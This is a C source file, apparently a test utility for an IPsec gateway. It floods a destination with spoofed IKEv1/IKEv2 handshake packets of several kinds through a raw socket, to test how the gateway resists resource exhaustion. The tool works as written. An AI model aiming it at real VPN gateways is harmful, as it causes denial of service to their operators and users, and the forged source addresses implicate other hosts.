/*
 * A flood of spoofed first messages, each from another address, at a steady rate: what a gateway
 * without cookies dies of. For tests in namespaces of their own only.
 *
 *     flood DESTINATION RATE SECONDS [KIND [SOURCE]]
 *
 * KIND is "new" (IKE_SA_INIT), "main" or "aggressive" (message 1 of IKEv1), "third" (message 3
 * with a cookie that nobody gave), "fragment" (of such a message) or "quick" (phase 2 of nobody).
 * SOURCE: all of them seem to come from there.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "base/address.h"
#include "base/random.h"
#include "wire/ikev1.h"
#include "wire/ikev2.h"
#include "wire/ip.h"

#define BATCH 64
#define PACKET_BYTES_MAX 1024

static struct random_source random_of_flood;

static void write_new(struct writer *ike)
{
    uint8_t public_value[32];
    uint8_t nonce[32];
    struct ikev2_header header = {.spi_i = random_u64(&random_of_flood) | 1,
                                  .version = 0x20,
                                  .exchange = IKEV2_IKE_SA_INIT,
                                  .flags = IKEV2_FLAG_INITIATOR};
    struct ikev2_sa_payload sa = {.proposal_count = 1, .transform_count = 3};

    random_fill(&random_of_flood, public_value, sizeof(public_value));
    random_fill(&random_of_flood, nonce, sizeof(nonce));
    sa.proposals[0] =
        (struct ikev2_wire_proposal){.number = 1, .protocol = 1, .first = 0, .count = 3};
    sa.transforms[0] = (struct ikev2_wire_transform){.type = 1, .id = 20, .key_bits = 256};
    sa.transforms[1] = (struct ikev2_wire_transform){.type = 2, .id = 6};
    sa.transforms[2] = (struct ikev2_wire_transform){.type = 4, .id = 31};
    ikev2_write_header(ike, &header);
    struct ikev2_chain chain = ikev2_chain_over(ike, ike->data + 16);

    ikev2_begin_payload(&chain, IKEV2_SA, false);
    ikev2_write_sa(ike, &sa);
    ikev2_end_payload(&chain);
    ikev2_begin_payload(&chain, IKEV2_KE, false);
    ikev2_write_ke(ike, &(struct ikev2_ke_payload){.group = 31, .value = SLICE_OF(public_value)});
    ikev2_end_payload(&chain);
    ikev2_write_payload(&chain, IKEV2_NONCE, SLICE_OF(nonce));
    ikev2_finish_message(ike);
}

/* RFC 2409 5.4, appendix A: AES-256, SHA2-256, a shared key, the group of 3072 bits. */
static const uint8_t old_sa[] = {
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, /* IPSEC, identity only */
    0x00, 0x00, 0x00, 0x28, 0x01, 0x01, 0x00, 0x01, /* one proposal of one transform */
    0x00, 0x00, 0x00, 0x20, 0x01, 0x01, 0x00, 0x00, /* KEY_IKE */
    0x80, 0x01, 0x00, 0x07, 0x80, 0x0e, 0x01, 0x00, 0x80, 0x02, 0x00, 0x04,
    0x80, 0x04, 0x00, 0x0f, 0x80, 0x03, 0x00, 0x01, 0x80, 0x0b, 0x00, 0x01,
};

static void write_old(struct writer *ike, const char *kind)
{
    uint8_t bytes[384];
    bool third = strcmp(kind, "third") == 0 || strcmp(kind, "fragment") == 0;
    bool quick = strcmp(kind, "quick") == 0;
    bool aggressive = strcmp(kind, "aggressive") == 0;
    struct ikev1_header header = {
        .cookie_i = random_u64(&random_of_flood) | 1,
        .cookie_r = third || quick ? random_u64(&random_of_flood) | 1 : 0,
        .version = 0x10,
        .exchange = quick        ? IKEV1_QUICK
                    : aggressive ? IKEV1_AGGRESSIVE
                                 : IKEV1_MAIN,
        .flags = quick ? IKEV1_FLAG_ENCRYPTED : 0,
        .message_id = quick ? (uint32_t)random_u64(&random_of_flood) | 1 : 0,
        .next_payload = IKEV1_HASH,
    };
    uint8_t first;

    random_fill(&random_of_flood, bytes, sizeof(bytes));
    bytes[0] |= 1; /* a public value is no small number */
    header.next_payload = quick                           ? IKEV1_HASH
                          : strcmp(kind, "fragment") == 0 ? IKEV1_FRAGMENT
                          : third                         ? IKEV1_KE
                                                          : IKEV1_SA;
    ikev1_write_header(ike, &header);
    struct ikev1_chain chain = ikev1_chain_over(ike, &first);

    if (quick) {
        write_slice(ike, (struct slice){bytes, 128});
    } else if (third) {
        put_u32(bytes, 0x00010100u | (bytes[3] & 1)); /* of a fragment; in the clear a number */
        ikev1_write_payload(&chain, header.next_payload, (struct slice){bytes, 200});
    } else {
        ikev1_write_payload(&chain, IKEV1_SA, SLICE_OF(old_sa));
    }
    if (aggressive) {
        ikev1_write_payload(&chain, IKEV1_KE, SLICE_OF(bytes));
        ikev1_write_payload(&chain, IKEV1_NONCE, (struct slice){bytes, 20});
        ikev1_write_payload(&chain, IKEV1_ID,
                            (struct slice){(const uint8_t *)"\2\0\0\0kyoto.example.jp", 20});
    }
    ikev1_finish_message(ike);
}

static size_t make_request(uint8_t *out, const char *kind, uint32_t source, uint32_t destination)
{
    struct writer w = writer_over(out, PACKET_BYTES_MAX);
    size_t ip_bytes = IPV4_HEAD_BYTES + UDP_HEAD_BYTES;
    struct writer ike = writer_over(out + ip_bytes, PACKET_BYTES_MAX - ip_bytes);

    if (strcmp(kind, "new") == 0) {
        write_new(&ike);
    } else {
        write_old(&ike, kind);
    }
    ipv4_write(&w, &(struct ipv4_fields){.source = address_ipv4(source),
                                         .destination = address_ipv4(destination),
                                         .ttl = 64,
                                         .protocol = IP_PROTOCOL_UDP,
                                         .payload_bytes = (uint16_t)(UDP_HEAD_BYTES + ike.length)});
    write_u16(&w, (uint16_t)(1024 + random_below(&random_of_flood, 60000)));
    write_u16(&w, 500);
    write_u16(&w, (uint16_t)(UDP_HEAD_BYTES + ike.length));
    write_u16(&w, 0);
    return ip_bytes + ike.length;
}

static double seconds_now(void)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    static uint8_t packets[BATCH][PACKET_BYTES_MAX];
    struct in_addr destination;
    struct in_addr only = {0};
    struct seeded_random seeded;

    if (argc < 4 || argc > 6 || inet_pton(AF_INET, argv[1], &destination) != 1 ||
        (argc == 6 && inet_pton(AF_INET, argv[5], &only) != 1)) {
        fprintf(stderr, "usage: flood DESTINATION RATE SECONDS [KIND [SOURCE]]\n");
        return 2;
    }
    double rate = strtod(argv[2], NULL);
    double length = strtod(argv[3], NULL);
    const char *kind = argc > 4 ? argv[4] : "new";

    seeded_random_init(&seeded, (uint64_t)getpid());
    random_of_flood = seeded_random_source(&seeded);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

    if (fd < 0) {
        perror("flood: raw socket");
        return 1;
    }
    double began = seconds_now();
    uint64_t sent = 0;
    uint64_t refused = 0;

    while (seconds_now() - began < length) {
        struct mmsghdr messages[BATCH] = {0};
        struct iovec pieces[BATCH];
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = destination};
        uint64_t due = (uint64_t)((seconds_now() - began) * rate);
        unsigned count = due > sent + refused + BATCH
                             ? BATCH
                             : (unsigned)(due > sent + refused ? due - sent - refused : 0);

        for (unsigned i = 0; i < count; i++) {
            uint32_t source = only.s_addr != 0
                                  ? ntohl(only.s_addr)
                                  : 0xc6120000u + random_below(&random_of_flood, 0x20000);

            pieces[i].iov_base = packets[i];
            pieces[i].iov_len = make_request(packets[i], kind, source, ntohl(destination.s_addr));
            messages[i].msg_hdr = (struct msghdr){
                .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &pieces[i], .msg_iovlen = 1};
        }
        int done = count == 0 ? 0 : sendmmsg(fd, messages, count, 0);

        sent += done > 0 ? (uint64_t)done : 0;
        refused += done < 0 ? count : count - (unsigned)done;
        if (count < BATCH) {
            usleep(500);
        }
    }
    printf("%llu sent, %llu refused, %.0f a second\n", (unsigned long long)sent,
           (unsigned long long)refused, (double)sent / length);
    close(fd);
    return 0;
}
